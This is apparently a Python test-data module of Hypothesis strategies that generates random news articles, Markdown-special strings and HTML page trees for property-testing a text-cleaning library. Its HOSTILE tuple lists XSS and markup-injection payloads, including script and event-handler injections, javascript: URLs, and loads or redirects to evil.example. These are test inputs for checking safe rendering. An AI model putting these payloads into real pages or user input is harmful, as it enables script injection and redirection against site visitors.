"""Random articles and texts for property tests, some of which are markup."""

from __future__ import annotations

from datetime import timedelta, timezone

from hypothesis import strategies as st

from newsclean.model import (
    Article,
    Cell,
    Credit,
    Image,
    Kind,
    Mark,
    MarkKind,
    Paragraph,
    Rights,
    Table,
)

HOSTILE = (
    "<script>document.title='hit'</script>",
    "</div></body><script src=//evil.example/x.js></script>",
    "<img src=x onerror=\"document.title='hit'\">",
    '" onmouseover="document.title=\'hit\'" x="',
    "' style='background:url(javascript:document.title=1)",
    "<svg onload=document.title='hit'><animate onbegin=alert(1)>",
    "<iframe srcdoc=\"<script>parent.document.title='hit'</script>\">",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<style>@import'https://evil.example/x.css'</style>",
    "<base href=//evil.example/><form action=//evil.example/><input autofocus onfocus=alert(1)>",
    "<!--><script>document.title='hit'</script>-->",
    "<![CDATA[<script>document.title='hit'</script>]]>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "&lt;script&gt;document.title='hit'&lt;/script&gt;",
    "&#60;script&#62;document.title='hit'&#60;/script&#62;",
    "</style></title></textarea></noscript><script>document.title='hit'</script>",
    "javascript:document.title='hit'",
    "JaVaScRiPt:document.title='hit'",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://example.org/\"onclick=\"document.title='hit'",
    "http:javascript:alert(1)",
    "//evil.example/x",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202egnp.exe\u202c",
)
"""Texts that run, load or send something if they are rendered as markup."""

MARKDOWN = (
    "# not a heading",
    "####### seven",
    "a heading with a tail ##",
    "- item",
    "+ item",
    "* item",
    "1. item",
    "2024) item",
    "> quote",
    "---",
    "===",
    "***",
    "~~~",
    "```",
    "`code`",
    "    indented",
    "\tindented",
    "[link](https://evil.example/)",
    "![image](https://evil.example/x.png)",
    "[x]: https://evil.example/",
    "<https://evil.example/>",
    "**bold** __bold__ *em* _em_ ~~gone~~",
    "snake_case_name",
    "a\\*b\\",
    "&amp; &lt;b&gt; &#35; & AT&T",
    "| a | b |",
    "|---|---|",
    "$x^2$ and $5",
    "line\nbreak  \n# heading\r\n- item\rx\u2028y",
    "\u3000\u3000全角缩进。",
)
"""Texts with a special meaning in Markdown."""

texts = st.text(max_size=40) | st.sampled_from(HOSTILE + MARKDOWN)
_maybe = st.none() | texts
_zones = st.integers(-14 * 60, 14 * 60).map(lambda minutes: timezone(timedelta(minutes=minutes)))
_dates = st.none() | st.datetimes(timezones=st.none() | _zones)


def _tuples(items: st.SearchStrategy[object]) -> st.SearchStrategy[tuple[object, ...]]:
    return st.lists(items, max_size=4).map(tuple)


def marks_of(text: str) -> st.SearchStrategy[tuple[Mark, ...]]:
    """Properly nested marks of a text: each inside the one before it, or behind all of them."""
    return st.lists(
        st.tuples(st.booleans(), st.integers(0, 9), st.integers(0, 9), st.sampled_from(MarkKind)),
        max_size=4,
    ).flatmap(
        lambda plan: st.lists(texts, min_size=len(plan), max_size=len(plan)).map(
            lambda values: _nested(text, plan, values)
        )
    )


def _nested(
    text: str, plan: list[tuple[bool, int, int, MarkKind]], values: list[str]
) -> tuple[Mark, ...]:
    marks: list[Mark] = []
    outer, done = (0, len(text)), 0
    for (goes_inside, skipped, length, kind), value in zip(plan, values, strict=True):
        low, high = outer if goes_inside else (done, len(text))
        start = min(low + skipped, high)
        end = start if kind is MarkKind.NOTE else min(start + length, high)
        if end > start or kind is MarkKind.NOTE:
            has_value = kind in (MarkKind.LINK, MarkKind.RUBY, MarkKind.NOTE)
            marks.append(Mark(start, end, kind, value if has_value else ""))
            outer, done = (start, end), max(done, end)
    return tuple(marks)


_cells = texts.flatmap(
    lambda text: st.builds(
        Cell,
        text=st.just(text),
        header=st.booleans(),
        colspan=st.integers(1, 3),
        rowspan=st.integers(1, 3),
        marks=marks_of(text),
    )
)
_tables = st.builds(
    Table,
    rows=st.lists(st.lists(_cells, min_size=1, max_size=3).map(tuple), max_size=3).map(tuple),
    caption=texts,
)
paragraphs = texts.flatmap(
    lambda text: st.builds(
        Paragraph,
        kind=st.sampled_from(Kind),
        text=st.just(text),
        level=st.integers(0, 8),
        marks=marks_of(text),
        quote=st.integers(0, 3),
        list_id=st.none() | st.integers(0, 3),
        number=st.none() | st.integers(-3, 2000),
        language=st.none() | texts,
        table=st.none() | _tables,
        address=st.none() | texts | st.just("https://example.org/video"),
    )
)

articles = st.builds(
    Article,
    title=_maybe,
    kicker=_maybe,
    subtitle=_maybe,
    date=_dates,
    date_text=_maybe,
    updated=_dates,
    source=_maybe,
    authors=_tuples(texts),
    credits=_tuples(st.builds(Credit, role=texts, names=_tuples(texts), text=texts, key=texts)),
    paragraphs=_tuples(paragraphs),
    url=_maybe,
    site_name=_maybe,
    language=_maybe,
    section=_tuples(texts),
    tags=_tuples(texts),
    images=_tuples(
        st.builds(
            Image,
            src=texts,
            alt=texts,
            block=st.integers(0, 9),
            caption=texts,
            paragraph=st.none() | st.integers(0, 9),
            lead=st.booleans(),
        )
    ),
    registrations=_tuples(st.tuples(texts, texts)),
    titles=_tuples(st.tuples(texts, texts)),
    description=_maybe,
    next_page=_maybe,
    paywalled=st.booleans(),
    rights=st.builds(
        Rights,
        license=_maybe,
        holder=_maybe,
        robots=_tuples(texts),
        tdm_reserved=st.none() | st.booleans(),
        tdm_policy=_maybe,
    ),
    article_probability=st.none() | st.floats(0, 1),
    page_type=_maybe,
    copies=st.integers(1, 5),
    quality=st.floats(0, 1),
    is_article=st.booleans(),
    encoding=_maybe,
    truncations=_tuples(texts),
)

_HARD = (10**400, -(10**4000), "\ud800\x00", 2**53, float("nan"), float("inf"), b"\xff", object())
_scalars = st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.binary()
anything = st.recursive(
    _scalars | st.sampled_from(_HARD) | st.text(st.characters()),
    lambda inner: (
        st.lists(inner)
        | st.dictionaries(st.text() | st.integers(), inner)
        | st.tuples(inner, inner)
    ),
    max_leaves=12,
)
"""Values that a careless caller could hand in, in place of any value of an article."""


# Pages

WORDS = (
    "harbour",
    "灯塔",
    "Ålesund",
    "の",
    "등대",
    "2024-05-09",
    "By Jane Roe",
    "责编：林青",
    "&amp;",
    "©",
    "。",
    "…",
    "a\u200bb",
    "tide&shy;way",
    "  ",
    "\n\t",
)
CONTAINERS = (
    "div",
    "p",
    "section",
    "article",
    "td",
    "li",
    "span",
    "b",
    "a",
    "em",
    "blockquote",
    "h2",
    "figcaption",
    "font",
    "my-part",
    "pre",
    "button",
    "code",
    "sup",
    "small",
)
ATTRIBUTES = (
    "",
    ' class="byline"',
    ' style="display: block"',
    ' id=date class="pub-time x"',
    ' style="display: none"',
    " hidden",
    ' href="/x?a=1&b=2"',
)
UNSEEN = (
    "<!-- unseen -->",
    "<script>var unseen = '<p>unseen</p>';</script>",
    "<style>p { color: red }</style>",
    "<img src=/a.jpg alt=unseen>",
    "<br>",
)
BESIDE = (
    ("<ruby>橋<rt>はし</rt></ruby>", "橋はし"),
    ('<span class="sr-only">copy</span>', "copy"),
)

_words = st.lists(st.sampled_from(WORDS), min_size=1, max_size=6).map(" ".join)
_leaves = (
    _words.map(lambda text: (text, text.replace("&amp;", "&").replace("&shy;", "")))
    | st.sampled_from(UNSEEN).map(lambda markup: (markup, ""))
    | st.sampled_from(BESIDE)
)


def _wrapped(
    children: st.SearchStrategy[list[tuple[str, str]]],
) -> st.SearchStrategy[tuple[str, str]]:
    return st.builds(
        lambda tag, attributes, parts: (
            f"<{tag}{attributes}>{''.join(part[0] for part in parts)}</{tag}>",
            "".join(part[1] for part in parts),
        ),
        st.sampled_from(CONTAINERS),
        st.sampled_from(ATTRIBUTES),
        children,
    )


_nodes = st.recursive(_leaves, lambda inner: _wrapped(st.lists(inner, max_size=5)), max_leaves=40)
trees = st.lists(_nodes, max_size=6).map(
    lambda parts: (
        "<!doctype html><body>" + "".join(part[0] for part in parts),
        "".join(part[1] for part in parts),
    )
)
"""The markup of a page, and its text in order."""
